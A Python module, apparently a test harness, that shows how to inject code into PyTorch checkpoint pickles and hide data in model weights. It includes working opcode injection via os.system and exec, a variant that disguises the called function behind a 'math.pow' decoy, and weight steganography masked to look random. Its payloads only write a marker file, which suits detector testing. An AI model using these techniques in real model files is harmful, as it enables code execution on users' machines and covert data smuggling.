"""What somebody can hide in a model's file: code in its pickle, bytes in its weights.

The attacker can rewrite a checkpoint before it is signed or downloaded. They want code
to run on the machine that loads it, or to carry data past everyone who looks at the
model, without a change of what it predicts.

Every payload here does one thing: it writes a marker file that the caller names.
Source: Fickling, Sultanik 2021; EvilModel, Wang et al. 2021, arXiv:2107.08590
"""

from __future__ import annotations

import io
import pickle
import zipfile
from collections.abc import Callable
from hashlib import shake_256
from pathlib import Path
from time import perf_counter
from typing import Any

import numpy as np

PROTOCOL = b"\x80\x02"  # how a pickle of torch.save begins
POP, REDUCE, STOP = b"0", b"R", b"."

# --- Code in a checkpoint ----------------------------------------------------------


def call(module: str, name: str, *args: Any) -> bytes:
    """Return opcodes that call a function and drop what it returns.

    args: what `pickle` can write; the function is fetched by name when it is run
    """
    given = pickle.dumps(args, 2).removeprefix(PROTOCOL).removesuffix(STOP)
    return f"c{module}\n{name}\n".encode("ascii") + given + REDUCE + POP


def hidden_call(module: str, name: str, *args: Any) -> bytes:
    """Return the same call with its name behind the memo, and a decoy in sight.

    Whoever takes the last two strings for the name reads `math.pow`.
    """
    memo, texts = b"", (module, name, "math", "pow")
    for place, text in enumerate(texts, 200):
        memo += b"\x8c" + bytes([len(text)]) + text.encode() + b"q" + bytes([place])
        memo += POP
    given = pickle.dumps(args, 2).removeprefix(PROTOCOL).removesuffix(STOP)
    return memo + bytes([*b"h", 200, *b"h", 201, *b"\x93"]) + given + REDUCE + POP


def smuggle(checkpoint: bytes, opcodes: bytes) -> bytes:
    """Return a checkpoint of `torch.save` that runs `opcodes` before it loads."""
    return _rewrite(checkpoint, lambda p: PROTOCOL + opcodes + p[len(PROTOCOL) :])


def _rewrite(checkpoint: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """Return a checkpoint with another pickle in it; everything else stays."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(checkpoint)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as new,
    ):
        for entry in old.infolist():
            content = old.read(entry)
            if entry.filename.endswith("/data.pkl"):
                content = change(content)
            new.writestr(zipfile.ZipInfo(entry.filename), content)
    return out.getvalue()


def damage_checksum(checkpoint: bytes) -> bytes:
    """Return a checkpoint in whose directory the pickle's checksum is wrong."""
    with zipfile.ZipFile(io.BytesIO(checkpoint)) as archive:
        start = archive.start_dir
    place = checkpoint.index(b"PK\x01\x02", start) + 16
    changed = bytearray(checkpoint)
    changed[place] ^= 0xFF
    return bytes(changed)


def payloads(marker: Path) -> dict[str, bytes]:
    """Return opcodes that write `marker`, by the name of the function they call."""
    path = str(marker)
    write = f"open({path!r}, 'w').close()"
    return {
        "os.system": call("os", "system", f": > '{path}'"),
        "builtins.exec": call("builtins", "exec", write),
        "hidden exec": hidden_call("builtins", "exec", write),
        "timeit.timeit": call("timeit", "timeit", write, "pass", perf_counter, 1),
        "logging.FileHandler": call("logging", "FileHandler", path),
        "numpy.savetxt": call("numpy", "savetxt", path, [0.0]),
        "torch.save": call("torch", "save", 0, path),
    }


def checkpoints(honest: bytes, marker: Path) -> dict[str, bytes]:
    """Return an honest checkpoint, and what an attacker makes of it, by name.

    honest: written by `torch.save`; marker: what each of the others writes when it
    is loaded
    """
    found = {"honest": honest}
    codes = payloads(marker)
    found |= {name: smuggle(honest, code) for name, code in codes.items()}
    runs = codes["builtins.exec"]
    found["damaged checksum"] = damage_checksum(smuggle(honest, runs))
    found["cut off"] = _rewrite(honest, lambda p: PROTOCOL + runs + p[2 : len(p) // 2])
    return found


# --- Bytes in the weights ----------------------------------------------------------


def check_weights(weights: np.ndarray, bits: int, shift: int) -> None:
    """Raise ValueError unless these are float32 numbers with that many bits to use."""
    if weights.dtype != np.float32 or weights.ndim != 1:
        raise ValueError(
            f"expected one row of float32, got {weights.dtype}{weights.shape}"
        )
    if bits < 1 or shift < 0 or bits + shift > 31:
        raise ValueError(f"{bits} bits from bit {shift} are not in a float32")


def capacity(weights: np.ndarray, bits: int) -> int:
    """Return how many bytes fit into `bits` bits of each weight."""
    return len(weights) * bits // 8


def hide(
    weights: np.ndarray, payload: bytes, bits: int = 8, shift: int = 0
) -> np.ndarray:
    """Return a copy of the weights that carries `payload` in bits of each number.

    weights: (N,) float32; bits: how many of each, from bit `shift` upwards, 0 the
    lowest. The bits below `shift` become zero, so that rounding does not carry.
    Raises ValueError when the payload is too large.
    """
    check_weights(weights, bits, shift)
    if len(payload) > capacity(weights, bits):
        raise ValueError(
            f"{len(payload)} bytes do not fit into {capacity(weights, bits)}"
        )
    stream = np.unpackbits(np.frombuffer(payload, np.uint8))
    used = -(-len(stream) // bits)
    stream = np.pad(stream, (0, used * bits - len(stream))).reshape(used, bits)
    values = stream.astype(np.uint32) @ (1 << np.arange(bits, dtype=np.uint32)[::-1])
    raw = weights.view(np.uint32).copy()
    keep = np.uint32(0xFFFFFFFF ^ ((1 << (bits + shift)) - 1))
    raw[:used] = (raw[:used] & keep) | (values.astype(np.uint32) << np.uint32(shift))
    return raw.view(np.float32)


def reveal(weights: np.ndarray, size: int, bits: int = 8, shift: int = 0) -> bytes:
    """Return the first `size` bytes that `hide` put into the weights."""
    check_weights(weights, bits, shift)
    used = -(-size * 8 // bits)
    values = (weights[:used].view(np.uint32) >> np.uint32(shift)) & ((1 << bits) - 1)
    stream = (values[:, None] >> np.arange(bits, dtype=np.uint32)[::-1]) & 1
    return np.packbits(stream.astype(np.uint8).reshape(-1)[: size * 8]).tobytes()


def mask(payload: bytes, key: bytes) -> bytes:
    """Return the payload under a stream of SHAKE-256, and back: it looks random."""
    stream = shake_256(key).digest(len(payload))
    return bytes(a ^ b for a, b in zip(payload, stream, strict=True))


def entropy(weights: np.ndarray, shift: int = 0) -> float:
    """Return the entropy in bits, at most 8, of one byte of each weight.

    weights: (N,) float32; shift: the byte's lowest bit
    """
    check_weights(weights, 8, shift)
    values = (weights.view(np.uint32) >> np.uint32(shift)) & 0xFF
    share = np.bincount(values, minlength=256) / len(weights)
    share = share[share > 0]
    return float(-(share * np.log2(share)).sum())


def bit_error(one: bytes, other: bytes) -> float:
    """Return the share of bits that differ; 0.5 is what chance gives."""
    if len(one) != len(other) or not one:
        raise ValueError(f"expected as many bytes, got {len(one)} and {len(other)}")
    pair = (np.frombuffer(part, np.uint8) for part in (one, other))
    return float(np.unpackbits(np.bitwise_xor(*pair)).mean())
